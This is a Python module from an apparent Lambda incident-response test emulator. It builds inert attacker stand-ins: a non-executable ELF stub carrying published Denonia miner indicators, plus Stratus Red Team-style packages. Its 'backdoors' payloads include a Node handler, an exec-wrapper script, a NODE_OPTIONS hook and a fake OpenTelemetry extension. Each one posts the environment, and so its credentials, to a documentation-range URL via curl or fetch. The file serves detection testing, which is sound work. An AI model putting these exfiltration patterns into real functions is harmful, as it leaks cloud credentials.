"""Harmless stand-ins for attacker packages: they carry published indicators, never working code.

The content is ours. The Denonia stand-in is NOT malware and cannot run: it is an ELF *header*
with no program headers (the kernel refuses it with ENOEXEC) followed by plain text strings,
the indicators Cado Security published for Denonia (April 2022) so that YARA rules, string
scans and IOC matchers have something real to find. The Stratus payloads mimic the shape of
what Stratus Red Team deploys (a handler that prints, an `extensions/` layer) and do nothing.
"""

from __future__ import annotations

import struct

from lambda_ir.emulator.scenarios.code import build_zip

DENONIA_DOMAIN = "gw.denonia.xyz"
DENONIA_POOL = "116.203.4.0:3333"
DENONIA_FILE = "bootstrap"

# Strings from Cado's write-up and YARA rule `lambda_malware`: the Go packages it embeds,
# its DNS-over-HTTPS resolvers, the XMRig configuration, the pool and the rig id.
DENONIA_INDICATORS = (
    "github.com/aws/aws-lambda-go/lambda",
    "github.com/aws/aws-lambda-go/lambdacontext",
    "github.com/aws/aws-sdk-go/aws",
    "github.com/likexian/doh-go",
    "github.com/likexian/doh-go/provider/",
    "github.com/likexian/doh-go/provider/google",
    "github.com/likexian/doh-go/provider/cloudflare",
    "https://dns.google.com/resolve?name=gw.denonia.xyz&type=A",
    "https://cloudflare-dns.com/dns-query?name=gw.denonia.xyz&type=A",
    "Mozilla/5.0 (compatible; Ezooms/1.0; help@moz.com)",
    "username:password pair for mining server",
    "xmrig",
    "XMRig/6.16.4",
    "HOME=/tmp",
    "/tmp/.xmrig.json",  # noqa: S108 (an indicator string, never a path we use)
    "stratum+tcp://116.203.4.0:3333",
    '"user": "echonet.amd64"',
    '"rig-id": "echonet.amd64"',
    "denonia.xyz",
    "ctrl.denonia.xyz",
    "gw.denonia.xyz",
    "1.gw.denonia.xyz",
    "mlcpugw.denonia.xyz",
)


def _elf_header() -> bytes:
    """An x86-64 ELF64 executable header with zero program and section headers (unloadable)."""
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    # e_type=EXEC, e_machine=x86-64, e_version, e_entry, e_phoff=0, e_shoff=0, e_flags,
    # e_ehsize=64, e_phentsize=56, e_phnum=0, e_shentsize=64, e_shnum=0, e_shstrndx=0.
    rest = struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 0, 0, 0, 64, 56, 0, 64, 0, 0)
    return ident + rest


def denonia_binary() -> bytes:
    """The inert Denonia stand-in: ELF header, a Go build id, then the published indicators."""
    text = [
        "INERT STAND-IN WRITTEN FOR lambda-ir TESTS: NOT MALWARE, NOT EXECUTABLE.",
        '\xffGo build ID: "lambda-ir-standin/denonia/not-a-real-build-id"',
        "go1.17.5",
        "runtime.main",
        "main.main",
        *DENONIA_INDICATORS,
    ]
    # Denonia padded its binary with HTTP request strings; a few keep the look.
    padding = [f"GET /api/v{n}/status HTTP/1.1\r\nHost: example.invalid\r\n" for n in range(8)]
    body = b"\x00".join(line.encode("utf-8", "surrogateescape") for line in text + padding)
    return _elf_header() + bytes(64) + body + b"\x00"


def denonia_zip() -> bytes:
    """The package the attacker uploads: the stand-in as a custom-runtime `bootstrap`."""
    return build_zip({DENONIA_FILE: denonia_binary()}, executable=frozenset({DENONIA_FILE}))


STRATUS_HANDLER = (
    "def lambda_handler(event, context):\n"
    '    print("lambda-ir stratus scenario: this function\'s code was overwritten")\n'
)


def stratus_overwrite_zip() -> bytes:
    """What `aws.persistence.lambda-overwrite-code` uploads: a one-file handler that prints."""
    return build_zip({"lambda.py": STRATUS_HANDLER})


STRATUS_EXTENSION_LAUNCHER = """#!/bin/bash
# Lambda runs every file in /opt/extensions as an external extension process.
set -euo pipefail
OWN_FILENAME="$(basename $0)"
export PYTHONPATH="/opt/${OWN_FILENAME}:${PYTHONPATH:-}"
exec python3 "/opt/${OWN_FILENAME}/extension.py"
"""

STRATUS_EXTENSION = '''"""Stand-in extension (lambda-ir scenario): logs each event it sees."""

import json
import os
import urllib.request

API = f"http://{os.environ['AWS_LAMBDA_RUNTIME_API']}/2020-01-01/extension"


def main():
    request = urllib.request.Request(
        f"{API}/register",
        data=json.dumps({"events": ["INVOKE", "SHUTDOWN"]}).encode(),
        headers={"Lambda-Extension-Name": "python-example-extension"},
    )
    with urllib.request.urlopen(request) as response:
        extension_id = response.headers["Lambda-Extension-Identifier"]
    while True:
        nxt = urllib.request.Request(
            f"{API}/event/next", headers={"Lambda-Extension-Identifier": extension_id}
        )
        with urllib.request.urlopen(nxt) as response:
            event = json.loads(response.read())
        print(f"[python-example-extension] received {event['eventType']}", flush=True)
        if event["eventType"] == "SHUTDOWN":
            return


if __name__ == "__main__":
    main()
'''

STRATUS_EXTENSION_NAME = "python-example-extension"


def stratus_extension_layer_zip() -> bytes:
    """What `aws.persistence.lambda-layer-extension` attaches: a layer with `extensions/`."""
    launcher = f"extensions/{STRATUS_EXTENSION_NAME}"
    return build_zip(
        {
            launcher: STRATUS_EXTENSION_LAUNCHER,
            f"{STRATUS_EXTENSION_NAME}/extension.py": STRATUS_EXTENSION,
            f"{STRATUS_EXTENSION_NAME}/requirements.txt": "requests==2.31.0\n",
        },
        executable=frozenset({launcher}),
    )


# The `backdoors` scenario's payloads (ours): each has the shape the technique needs and
# points only at documentation addresses (203.0.113.0/24); none does anything harmful.
EXFIL_URL = "https://203.0.113.140/collect"

NODE_EXFIL_HANDLER = f"""// user-notifier (lambda-ir scenario stand-in for a backdoored build)
exports.handler = async (event) => {{
  const body = JSON.stringify({{ event, env: process.env }});
  await fetch("{EXFIL_URL}", {{ method: "POST", body }});
  const records = event.Records || [];
  console.info(`processing ${{records.length}} record(s)`);
  return {{ statusCode: 200 }};
}};
"""

EXEC_WRAPPER = f"""#!/bin/bash
# AWS_LAMBDA_EXEC_WRAPPER stand-in (lambda-ir scenario): would run before every cold start.
curl -s -m 2 -X POST --data-binary "$(env)" {EXFIL_URL} >/dev/null 2>&1 || true
exec "$@"
"""

NODE_HOOK = f"""// NODE_OPTIONS=--require stand-in (lambda-ir scenario): loaded before the handler.
const https = require("https");
https.request("{EXFIL_URL}", {{ method: "POST" }}).end(JSON.stringify(process.env));
"""

FAKE_OTEL_EXTENSION = f"""#!/bin/bash
# Extension stand-in (lambda-ir scenario) posing as an OpenTelemetry collector.
curl -s -m 2 -X POST --data-binary "$(env)" {EXFIL_URL} >/dev/null 2>&1 || true
exec sleep infinity
"""


def node_exfil_zip() -> bytes:
    """A Node.js package whose handler also posts each event and the environment away."""
    return build_zip({"app.js": NODE_EXFIL_HANDLER})


def exec_wrapper_layer_zip() -> bytes:
    """A layer holding `bin/bootstrap-wrapper`, for `AWS_LAMBDA_EXEC_WRAPPER`."""
    return build_zip({"bin/bootstrap-wrapper": EXEC_WRAPPER}, frozenset({"bin/bootstrap-wrapper"}))


def node_hook_layer_zip() -> bytes:
    """A layer holding `nodejs/hook.js`, for `NODE_OPTIONS=--require /opt/nodejs/hook.js`."""
    return build_zip({"nodejs/hook.js": NODE_HOOK})


def fake_otel_layer_zip() -> bytes:
    """A layer with `extensions/otel-collector`: an external extension with a trusted name."""
    return build_zip(
        {"extensions/otel-collector": FAKE_OTEL_EXTENSION},
        frozenset({"extensions/otel-collector"}),
    )
